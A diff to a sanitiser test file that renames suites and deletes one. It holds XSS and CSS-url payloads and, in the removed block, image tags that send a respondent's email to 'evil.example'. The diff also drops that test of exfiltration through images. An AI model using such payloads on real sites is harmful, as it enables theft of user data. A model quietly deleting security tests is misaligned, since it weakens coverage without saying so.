@@ -6,7 +6,7 @@ import { readTheme } from './theme.ts';
 
 const markup = '<img src=x onerror=pwned()>';
 
-describe('acceptance 5: titles, answers and names of files are text', () => {
+describe('titles, answers and names of files are text', () => {
   const layout = {
     title: markup,
     description: { default: markup },
@@ -63,7 +63,7 @@ describe('acceptance 5: titles, answers and names of files are text', () => {
   });
 });
 
-describe('acceptance 5: of a hostile theme only plain values stay', () => {
+describe('of a hostile theme only plain values stay', () => {
   it.each([
     ['an address', '--sjs-a', 'url(https://evil.example)'],
     ['an address, written otherwise', '--sjs-a', String.raw`u\72l(//evil.example)`],
@@ -91,26 +91,4 @@ describe('acceptance 5: of a hostile theme only plain values stay', () => {
     'and none of %j',
     (theme) => expect(readTheme(theme)).toBeUndefined(),
   );
-});
-
-describe('acceptance 5: an answer goes to nobody with a picture', () => {
-  const htmlOf = (html: unknown) =>
-    JSON.stringify(
-      readSurvey({ pages: [{ name: 'p', elements: [{ type: 'html', name: 'h', html }] }] }).json,
-    );
-
-  it.each([
-    '<img src="https://evil.example/{Email}">',
-    "<img src = 'https://evil.example/?{Email}'>",
-    '<img src=https://evil.example/{Email}>',
-    '<IMG SRC="https://evil.example/\n{Email}',
-  ])('of the markup %j', (markupWithPicture) => {
-    expect(htmlOf(`<p>Hello {First Name}</p>${markupWithPicture}`)).not.toContain('evil.example');
-    expect(htmlOf({ default: markupWithPicture, es: 'Hola {Email}' })).toContain('Hola {Email}');
-  });
-
-  it('keeps other pictures, and answers in texts', () => {
-    const kept = '<p>{Email}</p><img src="/map.png">';
-    expect(htmlOf(kept)).toContain(JSON.stringify(kept).slice(1, -1));
-  });
 });
